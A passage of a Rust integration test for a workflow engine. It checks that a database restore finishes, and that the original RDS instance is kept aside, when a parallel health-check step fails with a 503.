    // At 60 times: `smoke` fails 1 s in, while the restore waits about 5 s for its first poll.
    let (world, definition) = harness.seed_and_compile(&mut workflow, 60);
    let machine = harness.create("sibling-fails", &definition);
    harness
        .front
        .served
        .fail("smoke", "Stepback.Failed", "the health check answered 503");
    let (_, status, events) = harness.run(&machine, "sibling-fails", json!({}));
    assert_eq!(status, "FAILED");

    let entered = |name: &str| {
        events
            .iter()
            .position(|e| e["stateEnteredEventDetails"]["name"] == name)
            .unwrap_or_else(|| panic!("`{name}` never entered: {events:#?}"))
    };
    // The sibling failed while the restore was under way, and the restore still ran to its end.
    assert!(entered("smoke: end branch") < entered("restore: done"));
    assert!(entered("restore: done") < entered("smoke: raise"));
    let failed = events
        .iter()
        .find(|e| e["type"] == "ExecutionFailed")
        .expect("the execution failed");
    assert_eq!(
        failed["executionFailedEventDetails"]["cause"],
        "step smoke failed: the health check answered 503",
        "{failed:#}"
    );

    let state = harness
        .runtime
        .block_on(world.state(&harness.front.session));
    let instances: Vec<&str> = state
        .iter()
        .filter_map(|line| line.resource.strip_prefix("RDS instance "))
        .collect();
    assert!(instances.contains(&"orders-db"), "{state:#?}");
    assert!(
        instances
            .iter()
            .any(|id| id.starts_with("orders-db-pre-rollback-")),
        "the original is parked beside it: {state:#?}"
    );
}
